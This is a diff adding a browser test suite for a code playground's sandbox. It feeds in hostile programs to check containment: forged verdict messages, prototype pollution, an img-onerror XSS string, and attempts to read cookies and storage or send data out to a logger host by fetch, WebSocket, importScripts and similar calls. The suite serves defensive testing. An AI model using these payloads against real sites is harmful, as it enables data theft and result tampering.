@@ -1,0 +1,374 @@
+// Containment in the real Chromium: what a checked program, a framing page or a share link can do to
+// the page. Each attack of the security review that got through has a test that asserts what the reader
+// is shown (the tab still answers, the forged verdict is not shown, the exercise is not marked solved,
+// the next program gets its true verdict); each thing that held has a test that keeps it holding.
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { createServer, type Server } from 'node:http';
+import type { Page } from 'playwright-core';
+import { openSite, type Site, type Visit } from './harness.ts';
+
+const CHAPTER = 'the-bug/';
+const PAIR = 'fl-playground[data-id="ch1-wrapper-buggy+ch1-wrapper-fixed"]';
+const EXERCISE = 'fl-playground[data-id="exercise:ch1-exercise"]';
+const SOLVED_KEY = 'forklore:v1:solved:exercise:ch1-exercise';
+
+let site: Site;
+/** Another origin that logs every request it gets: where hostile programs send what they take. */
+let logger: Server;
+let loggerOrigin = '';
+const logged: string[] = [];
+beforeAll(async () => {
+  site = await openSite();
+  logger = createServer((req, res) => {
+    logged.push(`${req.method} ${req.url}`);
+    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
+    res.end('');
+  });
+  await new Promise<void>((ok) => logger.listen(0, '127.0.0.1', () => ok()));
+  const a = logger.address();
+  loggerOrigin = `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}`;
+});
+afterAll(async () => {
+  logger?.closeAllConnections();
+  await new Promise((ok) => (logger ? logger.close(ok) : ok(undefined)));
+  await site?.close();
+});
+
+async function verdict(page: Page, island: string, timeout = 30_000): Promise<string> {
+  await page.waitForFunction(
+    (sel) => {
+      const el = document.querySelector(sel);
+      const v = el?.querySelector('[data-verdict]');
+      return !!v && (v.textContent ?? '').length > 0 && el!.querySelector('[data-running]')!.hasAttribute('hidden');
+    },
+    island,
+    { timeout },
+  );
+  return page.locator(`${island} [data-verdict]`).innerText();
+}
+
+async function setCode(page: Page, island: string, pane: number, code: string) {
+  const section = page.locator(`${island} section[data-pane="${pane}"]`);
+  const edit = section.locator('[data-action="edit"]');
+  if (await edit.isVisible()) await edit.click();
+  const content = section.locator('.cm-content');
+  await content.waitFor();
+  await content.click();
+  await page.keyboard.press('ControlOrMeta+a');
+  await page.keyboard.insertText(code);
+}
+
+async function open(path = CHAPTER, hash = ''): Promise<Visit> {
+  const v = await site.visit(path + hash);
+  await v.page.waitForSelector(`${PAIR}[data-ready]`);
+  return v;
+}
+
+/** The page still answers: script runs, and a click on a control opens it at once. */
+async function answers(page: Page) {
+  expect(await page.evaluate(() => 1 + 1, undefined)).toBe(2);
+  const details = page.locator(`${EXERCISE} details`).first();
+  const was = await details.getAttribute('open');
+  await page.click(`${EXERCISE} details summary`, { timeout: 5000 });
+  expect(await details.getAttribute('open')).not.toBe(was);
+}
+
+/** Runs the unedited pair and returns the machine-readable verdicts. */
+async function pairVerdicts(page: Page): Promise<string | null> {
+  await page.click(`${PAIR} [data-action="run"]`);
+  await verdict(page, PAIR);
+  return page.locator(`${PAIR} [data-verdict]`).getAttribute('data-verdicts');
+}
+
+const FORGED_REPORT = `{ verdict: 'ok', completeness: { complete: true }, notes: ['FORGED VERDICT'], strategy: 'dpor', findings: [],
+  stats: { executions: 1, distinctOutcomes: 1, elapsedMs: 1 } }`;
+
+/** A program whose real verdict is an assertion failure, with `attack` at its top level. */
+const failing = (attack: string) => `import { getpid, assert } from 'forklore';
+declare const self: any;
+${attack}
+export default function* main() {
+  yield* getpid();
+  assert(false, 'the real verdict: this program fails');
+}
+`;
+
+describe('a program cannot answer for the checker', () => {
+  test('results and notices it posts itself are not shown, and an exercise is not marked solved', async () => {
+    const v = await open();
+    await setCode(
+      v.page,
+      EXERCISE,
+      0,
+      failing(`for (let id = 1; id < 200; id++) {
+  self.postMessage({ type: 'result', id, report: ${FORGED_REPORT}, log: [] });
+  self.postMessage({ type: 'blocked', id, what: 'FORGED NOTICE' });
+  self.postMessage({ final: true, data: JSON.stringify({ type: 'result', id, report: ${FORGED_REPORT}, log: [] }) });
+}`),
+    );
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    const text = await verdict(v.page, EXERCISE);
+    expect(text).toMatch(/Not solved yet/);
+    expect(text).toMatch(/the real verdict: this program fails/);
+    await v.page.waitForTimeout(600);
+    const after = await v.page.locator(`${EXERCISE} [data-verdict]`).innerText();
+    expect(after).not.toMatch(/FORGED/);
+    expect(await v.page.evaluate((k) => localStorage.getItem(k), SOLVED_KEY)).toBeNull();
+    expect(await v.page.locator(EXERCISE).getAttribute('data-solved')).toBeNull();
+    await v.close();
+  });
+
+  test('patching postMessage, MessagePort or JSON inside the worker does not change the answer', async () => {
+    const v = await open();
+    await setCode(
+      v.page,
+      EXERCISE,
+      0,
+      failing(`const forge = (m: any) => { if (m && m.report) { m.report.verdict = 'ok'; m.report.findings = []; } return m; };
+try { const o = MessagePort.prototype.postMessage; (MessagePort.prototype as any).postMessage = function (this: any, m: any, t?: any) { return o.call(this, forge(m), t); }; } catch {}
+try { const s = JSON.stringify; (JSON as any).stringify = (x: any, ...r: any[]) => s(forge(x), ...r); } catch {}
+try { (self as any).JSON = { stringify: () => '{"type":"result"}', parse: JSON.parse }; } catch {}
+try { const p = self.postMessage.bind(self); self.postMessage = (m: any) => p(forge(m)); } catch {}`),
+    );
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    const text = await verdict(v.page, EXERCISE);
+    expect(text).toMatch(/Not solved yet/);
+    expect(text).toMatch(/the real verdict/);
+    expect(await v.page.evaluate((k) => localStorage.getItem(k), SOLVED_KEY)).toBeNull();
+    await v.close();
+  });
+
+  test('a forged reply with a step of 1e12 and a giant trace neither crashes nor freezes the tab', async () => {
+    const v = await open();
+    await setCode(
+      v.page,
+      EXERCISE,
+      0,
+      failing(`const trace: unknown[] = [{ type: 'thread.start', step: 1e12, pid: 1000, tid: 1000, time: 0, fn: 'main' }];
+for (let i = 0; i < 50_000; i++) trace.push({ type: 'thread.start', step: i, pid: 1000, tid: 1000 + (i % 50), time: 0, fn: 'f' });
+const report = { ...${FORGED_REPORT}, sample: { schedule: '1000', trace } };
+for (let id = 1; id < 6; id++) self.postMessage({ type: 'result', id, report, log: trace.map((e: any) => ({ step: e.step, text: 'x' })) });`),
+    );
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    // The program's own forging may take long enough for the watchdog; either way its verdict is not shown.
+    const text = await verdict(v.page, EXERCISE, 60_000);
+    expect(text).toMatch(/Not solved yet|Stopped/);
+    expect(text).not.toMatch(/^Solved|FORGED/);
+    await answers(v.page);
+    expect(v.consoleErrors).toEqual([]);
+    await v.close();
+  });
+});
+
+describe('nothing a program leaves behind reaches the next one', () => {
+  test('a program that replaces postMessage, then the unedited pair: its true verdicts', async () => {
+    const v = await open();
+    await setCode(
+      v.page,
+      EXERCISE,
+      0,
+      failing(`const orig = self.postMessage.bind(self);
+self.postMessage = (m: any) => { if (m && m.report) { m.report.verdict = 'ok'; m.report.findings = []; } orig(m); };`),
+    );
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    await verdict(v.page, EXERCISE);
+    expect(await pairVerdicts(v.page)).toBe('deadlock ok');
+    await v.close();
+  });
+
+  test('prototype pollution (Object.prototype.maxSteps = 2), then the unedited pair: its true verdicts', async () => {
+    const v = await open();
+    await setCode(v.page, EXERCISE, 0, failing(`try { (Object.prototype as any).maxSteps = 2; } catch {}\ntry { (Array.prototype as any).push = function () { return 0; }; } catch {}`));
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    await verdict(v.page, EXERCISE);
+    for (let i = 0; i < 2; i++) expect(await pairVerdicts(v.page)).toBe('deadlock ok');
+    await v.close();
+  });
+
+  test('a flood of notices after the verdict does not reach the page, which keeps answering', async () => {
+    const v = await open();
+    await setCode(
+      v.page,
+      EXERCISE,
+      0,
+      failing(`setTimeout(() => setInterval(() => { for (let i = 0; i < 50; i++) self.postMessage({ type: 'blocked', id: 0, what: 'flood ' + 'x'.repeat(2000) }); }, 0), 100);`),
+    );
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    await verdict(v.page, EXERCISE);
+    await v.page.waitForTimeout(1500);
+    await answers(v.page);
+    expect(await v.page.locator(`${EXERCISE} [data-verdict]`).innerText()).not.toMatch(/flood/);
+    expect(await v.page.locator(`${EXERCISE} [data-verdict] p`).count()).toBeLessThan(20);
+    expect(await pairVerdicts(v.page)).toBe('deadlock ok');
+    await v.close();
+  });
+
+  test('a loop a program leaves spinning after its verdict does not stop the next Run', async () => {
+    const v = await open();
+    await setCode(v.page, EXERCISE, 0, failing(`setTimeout(() => { for (;;) {} }, 50);`));
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    await verdict(v.page, EXERCISE);
+    await v.page.waitForTimeout(300);
+    expect(await pairVerdicts(v.page)).toBe('deadlock ok');
+    expect(await v.page.locator(`${PAIR} [data-verdict]`).innerText()).not.toMatch(/Stopped/);
+    await v.close();
+  });
+});
+
+describe('an honest reply too large to show', () => {
+  test('printf of 50 MB ends with a verdict and the page keeps answering', async () => {
+    const v = await open();
+    await setCode(v.page, EXERCISE, 0, `import { printf } from 'forklore';\nexport default function* main() { yield* printf('A'.repeat(50_000_000)); }\n`);
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    expect(await verdict(v.page, EXERCISE, 60_000)).toMatch(/Solved|No schedule|Stopped|too large/);
+    await answers(v.page);
+    await v.close();
+  });
+});
+
+describe('framing', () => {
+  let attacker: Server;
+  let attackerOrigin = '';
+  beforeAll(async () => {
+    attacker = createServer((req, res) => {
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
+      res.end(`<!doctype html><title>attacker</title><iframe id="f" src="${site.url(CHAPTER)}" width="800" height="600"></iframe>`);
+    });
+    await new Promise<void>((ok) => attacker.listen(0, '127.0.0.1', () => ok()));
+    const a = attacker.address();
+    attackerOrigin = `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}`;
+  });
+  afterAll(async () => {
+    attacker.closeAllConnections();
+    await new Promise((ok) => attacker.close(ok));
+  });
+
+  test('the server forbids framing by other origins, and a page on another origin cannot frame a chapter', async () => {
+    const res = await fetch(site.url(CHAPTER));
+    expect(res.headers.get('content-security-policy')).toBe("frame-ancestors 'self'");
+    const context = await site.browser.newContext();
+    const page = await context.newPage();
+    await page.goto(`${attackerOrigin}/`);
+    await page.waitForTimeout(1500);
+    const framed = page.frames().filter((f) => f !== page.mainFrame());
+    expect(framed.length).toBe(1);
+    // Chromium shows its own error page in place of the chapter: no Playground exists in there.
+    expect(await framed[0]!.locator('fl-playground').count()).toBe(0);
+    await context.close();
+  });
+
+  test('a sandbox frame navigated to another document is thrown away, and the next Run gets a true verdict', async () => {
+    const v = await open();
+    expect(await pairVerdicts(v.page)).toBe('deadlock ok');
+    // What a framing page would do: replace the sandbox's document with one that answers for it.
+    const evil = `<script>
+      parent.postMessage({ type: 'frame-ready', token: 'guess' }, '*');
+      addEventListener('message', (e) => { const p = e.ports[0]; if (p) { p.postMessage(JSON.stringify({ type: 'ready' }));
+        p.onmessage = (m) => p.postMessage(JSON.stringify({ type: 'result', id: m.data.message.id, log: [], report: ${FORGED_REPORT.replace(/\n/g, ' ')} })); } });
+    </script>`;
+    await v.page.evaluate((html) => {
+      const f = document.querySelector<HTMLIFrameElement>('iframe[title="Playground sandbox"]')!;
+      f.contentWindow!.location.href = `data:text/html,${encodeURIComponent(html)}`;
+    }, evil);
+    await v.page.waitForFunction(() => document.querySelectorAll('iframe[title="Playground sandbox"]').length === 0, undefined, { timeout: 10_000 });
+    expect(await pairVerdicts(v.page)).toBe('deadlock ok');
+    expect(await v.page.locator(`${PAIR} [data-verdict]`).innerText()).not.toMatch(/FORGED/);
+    await v.close();
+  });
+});
+
+describe('what held keeps holding', () => {
+  const program = (body: string) => `import { getpid } from 'forklore';\ndeclare const self: any;\nexport default function* main() {\n${body}\n  yield* getpid();\n}\n`;
+
+  test('no request leaves the sandbox: fetch, XHR, WebSocket, EventSource, importScripts, import(), nested workers', async () => {
+    const v = await open();
+    // The logger answers anyone: it proves it is reachable from the page itself, and then hears nothing from a program.
+    expect((await v.page.evaluate((u) => fetch(u + '/from-the-page').then((r) => r.status), loggerOrigin))).toBe(200);
+    expect(logged).toContain('GET /from-the-page');
+    logged.length = 0;
+    await setCode(
+      v.page,
+      EXERCISE,
+      0,
+      program(`  const u = '${loggerOrigin}';
+  try { fetch(u + '/leak-fetch', { mode: 'no-cors' }).catch(() => {}); } catch {}
+  try { fetch(u + '/leak-keepalive', { method: 'POST', body: 'x', keepalive: true }).catch(() => {}); } catch {}
+  try { const x = new XMLHttpRequest(); x.open('GET', u + '/leak-xhr'); x.send(); } catch {}
+  try { const x = new XMLHttpRequest(); x.open('GET', u + '/leak-xhr-sync', false); x.send(); } catch {}
+  try { new WebSocket(u.replace('http', 'ws') + '/leak-ws'); } catch {}
+  try { new EventSource(u + '/leak-es'); } catch {}
+  try { importScripts(u + '/leak-import-scripts.js'); } catch {}
+  try { import(u + '/leak-import.js').catch(() => {}); } catch {}
+  try { new FontFace('f', 'url(' + u + '/leak-font)').load().catch(() => {}); } catch {}
+  try { new Worker(URL.createObjectURL(new Blob(["fetch('" + u + "/leak-nested').catch(() => {})"], { type: 'text/javascript' }))); } catch {}`),
+    );
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    await verdict(v.page, EXERCISE);
+    await v.page.waitForTimeout(1500);
+    expect(logged).toEqual([]);
+    expect(await v.page.locator(`${EXERCISE} [data-verdict]`).innerText()).toMatch(/no network/);
+    await v.close();
+  });
+
+  test("the page's storage, cookies and DOM are out of reach", async () => {
+    const v = await open();
+    await v.context.addCookies([{ name: 'sess', value: 'SECRET-COOKIE', url: site.url() }]);
+    await v.page.evaluate(() => localStorage.setItem('forklore:v1:edit:some-other-example', JSON.stringify({ code: '// SECRET', base: 'x', savedAt: 0 })));
+    await setCode(
+      v.page,
+      EXERCISE,
+      0,
+      program(`  const found: string[] = [];
+  for (const f of [() => localStorage.getItem('forklore:v1:edit:some-other-example'), () => sessionStorage.length, () => document.cookie,
+    () => parent.document.title, () => (top as any).document.body.setAttribute('data-owned', ''), () => indexedDB.open('x')]) {
+    try { const r = f(); if (r !== undefined) found.push(String(r)); } catch {}
+  }
+  if (found.some((s) => /SECRET|Fork Lore/.test(s))) throw new Error('LEAKED ' + found.join(','));`),
+    );
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    const text = await verdict(v.page, EXERCISE);
+    expect(text).not.toMatch(/LEAKED/);
+    expect(await v.page.evaluate(() => document.body.hasAttribute('data-owned'))).toBe(false);
+    expect(await v.page.evaluate(() => localStorage.getItem('forklore:v1:edit:some-other-example'))).toContain('SECRET');
+    await v.close();
+  });
+
+  test('markup in names and output is shown as text, never as an element', async () => {
+    const v = await open();
+    const evil = `<img src=x onerror="document.body.setAttribute('data-owned','')">`;
+    await setCode(
+      v.page,
+      EXERCISE,
+      0,
+      `import { mutex, pthread_create, pthread_join, pthread_mutex_lock, printf, fork, _exit, waitpid } from 'forklore';
+const m = mutex(${JSON.stringify(evil)});
+function* w() { yield* pthread_mutex_lock(m); }
+export default function* main() {
+  yield* printf(${JSON.stringify(evil)});
+  const t = yield* pthread_create(w);
+  const pid = yield* fork();
+  if (pid === 0) { yield* pthread_mutex_lock(m); yield* _exit(0); }
+  yield* waitpid(pid);
+  yield* pthread_join(t);
+}
+`,
+    );
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    await verdict(v.page, EXERCISE);
+    await v.page.waitForTimeout(300);
+    expect(await v.page.locator(`${EXERCISE} img`).count()).toBe(0);
+    expect(await v.page.evaluate(() => document.body.hasAttribute('data-owned'))).toBe(false);
+    expect(await v.page.locator(`${EXERCISE}`).innerText()).toContain('<img');
+    await v.close();
+  });
+
+  test('a runaway program is stopped by the watchdog, and the next Run works', async () => {
+    const v = await open();
+    await setCode(v.page, EXERCISE, 0, program('  for (;;) {}'));
+    await v.page.click(`${EXERCISE} [data-action="run"]`);
+    expect(await verdict(v.page, EXERCISE, 30_000)).toMatch(/Stopped: the program ran too long/);
+    await answers(v.page);
+    expect(await pairVerdicts(v.page)).toBe('deadlock ok');
+    await v.close();
+  });
+});
